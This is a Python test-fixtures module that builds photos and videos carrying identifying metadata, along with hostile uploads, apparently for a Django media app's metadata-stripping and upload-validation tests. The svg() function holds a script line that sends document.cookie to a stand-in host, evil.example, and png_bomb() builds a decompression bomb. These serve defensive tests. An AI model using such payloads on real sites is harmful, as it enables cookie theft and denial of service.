"""Real files for the media tests, made in memory: photos with identifying
metadata, broken and hostile uploads, and minimal MP4 and WebM files."""

import io
import struct
import zlib

from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import ExifTags, PngImagePlugin
from PIL import Image as PILImage

# What must never reach a visitor: the camera's serial number, its owner and
# where the photo was taken, in EXIF, XMP, IPTC or comments.
SERIAL = "SN-4455667788"
OWNER = "Camera Owner Name"
PLACE = "Evin Prison gate"
GPS = {
    ExifTags.GPS.GPSLatitudeRef: "N",
    ExifTags.GPS.GPSLatitude: (35.0, 47.0, 38.0),
    ExifTags.GPS.GPSLongitudeRef: "E",
    ExifTags.GPS.GPSLongitude: (51.0, 23.0, 9.0),
}
XMP = (
    '<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?>'
    '<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
    '<rdf:Description xmlns:exif="http://ns.adobe.com/exif/1.0/" xmlns:aux="http://ns.adobe.com/exif/1.0/aux/"'
    f' exif:GPSLatitude="35,47.633N" exif:GPSLongitude="51,23.15E" aux:SerialNumber="{SERIAL}"'
    f' photoshop:Location="{PLACE}" xmlns:photoshop="http://ns.adobe.com/photoshop/1.0/"/>'
    "</rdf:RDF></x:xmpmeta>"
    '<?xpacket end="w"?>'
)
IDENTIFYING = [SERIAL.encode(), OWNER.encode(), PLACE.encode(), b"xmpmeta", b"Exif\x00\x00"]
LOCATION = b"+35.7938+051.3858/"


def exif(orientation=1):
    data = PILImage.Exif()
    data[ExifTags.Base.Make] = "Canon"
    data[ExifTags.Base.Model] = "EOS R5"
    data[ExifTags.Base.Artist] = "Jane Photographer"
    data[ExifTags.Base.Copyright] = "Free Iran photo desk"
    data[ExifTags.Base.Orientation] = orientation
    data[ExifTags.IFD.GPSInfo] = GPS
    data[ExifTags.IFD.Exif] = {
        ExifTags.Base.DateTimeOriginal: "2023:07:01 14:03:11",
        ExifTags.Base.BodySerialNumber: SERIAL,
        ExifTags.Base.CameraOwnerName: OWNER,
        ExifTags.Base.LensSerialNumber: SERIAL,
    }
    return data


def picture(width=800, height=600, seed=0, mode="RGB"):
    """A picture unique to ``seed``: a colour field with a red block in the top-left corner."""
    colour = ((seed * 67) % 256, (seed * 151 + 40) % 256, (seed * 29 + 90) % 256)
    image = PILImage.new(mode, (width, height), colour if mode == "RGB" else (*colour, 255))
    image.paste((255, 0, 0), (0, 0, width // 4, height // 4))
    return image


def encode(image, format, **params):
    buffer = io.BytesIO()
    image.save(buffer, format, **params)
    return buffer.getvalue()


def with_iptc(jpeg):
    """Insert a Photoshop/IPTC segment (APP13) naming the place, after the JPEG's SOI marker."""
    record = b"\x1c\x02\x5c" + struct.pack(">H", len(PLACE)) + PLACE.encode()  # 2:92 Sublocation
    resource = b"8BIM\x04\x04\x00\x00" + struct.pack(">I", len(record)) + record
    payload = b"Photoshop 3.0\x00" + resource
    return jpeg[:2] + b"\xff\xed" + struct.pack(">H", len(payload) + 2) + payload + jpeg[2:]


def jpeg(width=800, height=600, seed=0, orientation=1, identifying=True):
    image = picture(width, height, seed)
    if not identifying:
        return encode(image, "JPEG", quality=90)
    data = encode(
        image,
        "JPEG",
        quality=90,
        exif=exif(orientation).tobytes(),
        xmp=XMP.encode(),
        comment=f"{SERIAL} {PLACE}".encode(),
    )
    return with_iptc(data)


def png(width=800, height=600, seed=0):
    info = PngImagePlugin.PngInfo()
    info.add_text("Location", PLACE)
    info.add_itxt("XML:com.adobe.xmp", XMP)
    return encode(
        picture(width, height, seed, mode="RGBA"), "PNG", pnginfo=info, exif=exif().tobytes()
    )


def webp(width=800, height=600, seed=0):
    return encode(
        picture(width, height, seed), "WEBP", exif=exif().tobytes(), xmp=XMP.encode(), quality=90
    )


def avif(width=800, height=600, seed=0):
    return encode(
        picture(width, height, seed), "AVIF", exif=exif().tobytes(), xmp=XMP.encode(), quality=70
    )


def gif(width=320, height=240, seed=0, frames=1):
    images = [picture(width, height, seed + n).convert("P") for n in range(frames)]
    return encode(
        images[0],
        "GIF",
        save_all=frames > 1,
        append_images=images[1:],
        duration=80,
        loop=0,
        comment=f"{SERIAL} {PLACE}".encode(),
    )


def upload(data, name="photo.jpg", content_type="image/jpeg"):
    return SimpleUploadedFile(name, data, content_type=content_type)


def not_an_image():
    return b"These are minutes of a meeting, not a photo.\n" * 40


def truncated_jpeg():
    data = jpeg(1200, 900, identifying=False)
    return data[: len(data) * 2 // 3]


def png_bomb(width=30_000, height=30_000):
    """A PNG that claims width x height pixels in a few dozen bytes (a decompression bomb)."""

    def chunk(kind, data):
        return (
            struct.pack(">I", len(data))
            + kind
            + data
            + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
        )

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    rows = zlib.compress(b"\x00" * (1 + 3 * 64))
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")
    )


def svg(script=False):
    body = '<rect width="10" height="10" fill="red"/>'
    if script:
        body += "<script>fetch('https://evil.example/?c=' + document.cookie)</script>"
    return (
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        f'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">{body}</svg>\n'
    ).encode()


def heic():
    """The start of an iPhone photo: an ISO media file of brand "heic"."""
    return b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + b"\x00" * 200


# MP4 ------------------------------------------------------------------------

XMP_UUID = bytes.fromhex("BE7ACFCB97A942E89C71999491E3AFAC")
FRAMES = b"\x00\x00\x00\x10FRAME-DATA-0123" * 64


def box(kind, payload):
    return struct.pack(">I", 8 + len(payload)) + kind + payload


def track(handler):
    hdlr = box(b"hdlr", b"\0" * 8 + handler + b"\0" * 12 + b"Handler\0")
    media = box(b"mdia", box(b"mdhd", b"\0" * 24) + hdlr + box(b"minf", box(b"vmhd", b"\0" * 12)))
    return box(b"trak", box(b"tkhd", b"\0" * 84) + media)


def mp4(handlers=(b"vide", b"soun"), brand=b"isom", location=True):
    """A minimal MP4 (ftyp, moov with tracks, mdat); with ``location``, the places phones
    write it: udta/©xyz, Apple's location key in moov/meta, and an XMP uuid box."""
    ftyp = box(b"ftyp", brand + b"\0\0\x02\0" + b"isomiso2avc1mp41")
    tracks = b"".join(track(handler) for handler in handlers)
    extra = b""
    if location:
        extra += box(b"udta", box(b"\xa9xyz", struct.pack(">HH", len(LOCATION), 0) + LOCATION))
        keys = box(b"keys", b"\0" * 8 + b"mdtacom.apple.quicktime.location.ISO6709")
        extra += box(b"meta", b"\0" * 4 + keys + box(b"ilst", box(b"data", LOCATION)))
    moov = box(b"moov", box(b"mvhd", b"\0" * 100) + tracks + extra)
    xmp = box(b"uuid", XMP_UUID + XMP.encode()) if location else b""
    return ftyp + moov + xmp + box(b"mdat", FRAMES)


def mp4_boxes(data, start=0, end=None):
    """``[(type, offset, size)]`` of the boxes in ``data[start:end]``."""
    end = len(data) if end is None else end
    found, offset = [], start
    while offset < end:
        size, kind = struct.unpack(">I4s", data[offset : offset + 8])
        found.append((kind, offset, size))
        offset += size
    return found


# WebM -----------------------------------------------------------------------

UNKNOWN = b"\x01\xff\xff\xff\xff\xff\xff\xff"


def element(element_id, payload, unknown_size=False):
    id_bytes = element_id.to_bytes((element_id.bit_length() + 7) // 8, "big")
    size = UNKNOWN if unknown_size else b"\x01" + len(payload).to_bytes(7, "big")
    return id_bytes + size + payload


def webm(track_types=(1, 2), tags=True, unknown_sizes=False):
    """A minimal WebM; with ``tags``, a Tags element holding a location and an
    Attachments element; with ``unknown_sizes``, written as a live recorder does."""
    header = element(0x1A45DFA3, element(0x4282, b"webm"))
    tracks = element(
        0x1654AE6B, b"".join(element(0xAE, element(0x83, bytes([t]))) for t in track_types)
    )
    info = element(0x1549A966, element(0x2AD7B1, b"\x0f\x42\x40"))
    cluster = element(
        0x1F43B675,
        element(0xE7, b"\x00") + element(0xA3, b"\x81\x00\x00\x80" + FRAMES),
        unknown_size=unknown_sizes,
    )
    body = info + tracks + cluster
    if tags:
        simple_tag = element(0x45A3, b"LOCATION") + element(0x4487, LOCATION)
        body += element(0x1254C367, element(0x7373, element(0x67C8, simple_tag)))
        body += element(
            0x1941A469,
            element(0x61A7, element(0x466E, b"cover.jpg") + element(0x465C, SERIAL.encode())),
        )
    return header + element(0x18538067, body, unknown_size=unknown_sizes)
